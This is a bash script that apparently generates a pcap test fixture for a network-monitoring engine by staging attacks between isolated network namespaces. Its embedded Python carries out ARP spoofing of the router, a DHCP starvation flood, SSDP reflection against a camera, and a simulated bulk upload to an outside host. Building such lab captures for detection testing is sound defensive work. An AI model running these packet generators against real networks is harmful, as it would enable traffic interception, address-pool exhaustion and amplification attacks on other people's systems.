#!/usr/bin/env bash
# Records vigil-engine/src/test/resources/captures/vigil-netns-lan-attacks.pcap: real traffic between
# network namespaces this script creates (and removes), documentation addresses only:
#
#   LAN bridge vg-br1: router 192.168.88.1 (ns vg-r1), camera 192.168.88.10 (ns vg-cam1),
#                      intruder 192.168.88.66 (ns vg-bad); the router forwards to "outside" (ns vg-out:
#                      198.51.100.7 and 203.0.113.9)
#   1. the camera talks to 203.0.113.9, then, two seconds later, uploads 1.2 MB to 198.51.100.7
#   2. the intruder claims the router's address in ARP replies while the router keeps answering for it
#   3. the intruder broadcasts 40 DHCP DISCOVERs under random hardware addresses (starvation)
#   4. an outside host sends 520 small requests to a UDP service of the camera (port 1900) that answers
#      each with 2 KB (the camera used as a reflector)
# Captured on the LAN bridge with a 320-byte snap length (whole DHCP messages, heads of the rest). Needs root, iproute2, tcpdump, python3.
set -euo pipefail
OUT=${1:-$(cd "$(dirname "$0")/.." && pwd)/vigil-engine/src/test/resources/captures/vigil-netns-lan-attacks.pcap}
. "$(dirname "$0")/netns-lab.sh"
lab_start vg-br1 vg-r1 vg-cam1 vg-bad vg-out
lab_lan vg-r1 r1lan 02:00:5e:88:00:01 192.168.88.1/24
lab_lan vg-cam1 cam1 02:00:5e:88:00:10 192.168.88.10/24
lab_lan vg-bad bad0 02:00:5e:88:00:66 192.168.88.66/24
lab_wan vg-r1 r1wan 198.51.100.1/24 vg-out out0 198.51.100.7/24
ip -n vg-r1 addr add 203.0.113.1/24 dev r1wan; ip -n vg-out addr add 203.0.113.9/24 dev out0
ip -n vg-cam1 route add default via 192.168.88.1
cat > "$W/sink.py" <<'PY'
import socket, sys, threading
def serve(addr):
    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(addr); s.listen(5)
    while True:
        c, _ = s.accept()
        while c.recv(65536): pass
        c.sendall(b"HTTP/1.0 200 OK\r\n\r\n"); c.close()
for a in [("198.51.100.7", 8080), ("203.0.113.9", 443)]:
    threading.Thread(target=serve, args=(a,), daemon=True).start()
threading.Event().wait()
PY
cat > "$W/upload.py" <<'PY'
import socket, time
c = socket.create_connection(("203.0.113.9", 443)); c.sendall(b"hello"); c.shutdown(socket.SHUT_WR); c.recv(100); c.close()
time.sleep(2)
c = socket.create_connection(("198.51.100.7", 8080)); c.sendall(b"POST /u HTTP/1.0\r\n\r\n" + bytes(1_200_000))
c.shutdown(socket.SHUT_WR); c.recv(100); c.close()
PY
cat > "$W/arp.py" <<'PY'
import socket, struct, sys, time
ifname, mac, ip, target_mac, target_ip, count = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4], sys.argv[5], int(sys.argv[6])
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW); s.bind((ifname, 0))
m = bytes.fromhex(mac.replace(":", "")); t = bytes.fromhex(target_mac.replace(":", ""))
pkt = t + m + b"\x08\x06" + struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + m + socket.inet_aton(ip) + t + socket.inet_aton(target_ip)
for i in range(count):
    s.send(pkt); time.sleep(0.3)
PY
cat > "$W/dhcp.py" <<'PY'
import random, socket, struct
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW); s.bind(("bad0", 0))
me = bytes.fromhex("02005e880066"); rnd = random.Random(3)
def csum(b):
    if len(b) % 2: b += b"\0"
    t = sum(struct.unpack("!%dH" % (len(b) // 2), b)); t = (t >> 16) + (t & 0xffff); t += t >> 16
    return ~t & 0xffff
for i in range(40):
    ch = bytes([2] + [rnd.randrange(256) for _ in range(5)])
    bootp = struct.pack("!BBBBIHH4s4s4s4s16s64s128s", 1, 1, 6, 0, rnd.getrandbits(32), 0, 0x8000, bytes(4), bytes(4),
                        bytes(4), bytes(4), ch + bytes(10), bytes(64), bytes(128))
    opts = b"\x63\x82\x53\x63" + b"\x35\x01\x01" + b"\x37\x03\x01\x03\x06" + b"\xff"
    payload = bootp + opts
    udp = struct.pack("!HHHH", 68, 67, 8 + len(payload), 0) + payload
    iph = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), i, 0, 64, 17, 0, bytes(4), b"\xff\xff\xff\xff")
    iph = iph[:10] + struct.pack("!H", csum(iph)) + iph[12:]
    s.send(b"\xff" * 6 + me + b"\x08\x00" + iph + udp)
PY
cat > "$W/amp.py" <<'PY'
import socket, sys, time
if sys.argv[1] == "serve":
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("192.168.88.10", 1900))
    while True:
        d, a = s.recvfrom(2048); s.sendto(b"HTTP/1.1 200 OK\r\n" + bytes(2000), a)
else:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("198.51.100.7", 40000)); s.settimeout(0.05)
    for i in range(520):
        s.sendto(b"M-SEARCH * HTTP/1.1\r\nST: ssdp:all\r\nMX: 1\r\n\r\n", ("192.168.88.10", 1900))
        try: s.recvfrom(4096)
        except socket.timeout: pass
PY
tcpdump -i vg-br1 -s 320 -U -w "$W/lan.pcap" 2>/dev/null &
TCPDUMP=$!
sleep 1
ip netns exec vg-out python3 "$W/sink.py" &
ip netns exec vg-cam1 python3 "$W/amp.py" serve &
sleep 0.5
ip netns exec vg-cam1 python3 "$W/upload.py"
# the camera learns the router's MAC, then the intruder and the router take turns claiming 192.168.88.1
ip netns exec vg-cam1 python3 -c "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b\"x\", (\"192.168.88.1\", 9))"
ip netns exec vg-bad python3 "$W/arp.py" bad0 02:00:5e:88:00:66 192.168.88.1 02:00:5e:88:00:10 192.168.88.10 6 &
ip netns exec vg-r1 python3 "$W/arp.py" r1lan 02:00:5e:88:00:01 192.168.88.1 02:00:5e:88:00:10 192.168.88.10 6
wait %5 2>/dev/null || true
ip netns exec vg-bad python3 "$W/dhcp.py"
ip netns exec vg-out python3 "$W/amp.py" attack
sleep 1
kill $TCPDUMP; wait $TCPDUMP 2>/dev/null || true
cp "$W/lan.pcap" "$OUT"
echo "wrote $OUT ($(tcpdump -r "$OUT" 2>/dev/null | wc -l) packets)"
